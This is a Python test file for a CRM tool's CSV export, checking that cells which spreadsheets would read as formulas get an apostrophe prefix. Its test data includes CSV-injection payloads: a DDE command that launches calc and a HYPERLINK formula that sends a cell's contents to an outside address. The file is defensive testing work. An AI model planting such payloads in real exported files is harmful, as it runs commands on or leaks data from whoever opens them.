"""A CSV for spreadsheets: hostile texts stay texts, numbers stay numbers."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from crmlab.store import spreadsheet

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "   =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    '"=1',
    "'=1",
    ' " =1',
    "\u201c=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
]
INSIDE = ["a;=1+1", "a,=1", "a\t=1", "a\n=1", "a\r\n@x", 'C1";=1', "a|=1", "a; '=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_be_a_formula_begins_with_an_apostrophe(text):
    assert spreadsheet.safe(text)[0] == "'"
    assert spreadsheet.safe(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", INSIDE)
@pytest.mark.parametrize("separator", list(",;|\t\n"))
def test_no_piece_of_a_cell_is_a_formula_whatever_program_splits_it(text, separator):
    pieces = spreadsheet.safe(text).split(separator)
    assert not any(
        piece.strip(" \t\r\n\"'").startswith(tuple("=+-@")) and "'" not in piece for piece in pieces
    )


@pytest.mark.parametrize(
    "text",
    ["C0001", "first_pages = 14 (odds × 2.2)", "e-mail", "a - b", "2024-11-01", "müller@example.org", ""],
)
def test_plain_texts_stay_as_they_are(text):
    assert spreadsheet.safe(text) == text


def test_the_file_reads_back_and_opens_in_excel(tmp_path):
    frame = pd.DataFrame(
        {
            "customer": HOSTILE,
            "profit": np.linspace(-1.5, 2.0, len(HOSTILE)),
            "decile": range(len(HOSTILE)),
            "=name": pd.Series(["süß", None] * (len(HOSTILE) // 2) + ["x"], dtype="str"),
        }
    )
    spreadsheet.write(frame, tmp_path / "list.csv")
    assert (tmp_path / "list.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with (tmp_path / "list.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file)
    assert header == ["customer", "profit", "decile", "'=name"]
    assert [row[0] for row in rows] == [spreadsheet.safe(text) for text in HOSTILE]
    assert rows[0][1] == "-1.5"  # a number is not a text
    assert [row[3] for row in rows[:2]] == ["süß", ""]
    assert frame["customer"].tolist() == HOSTILE
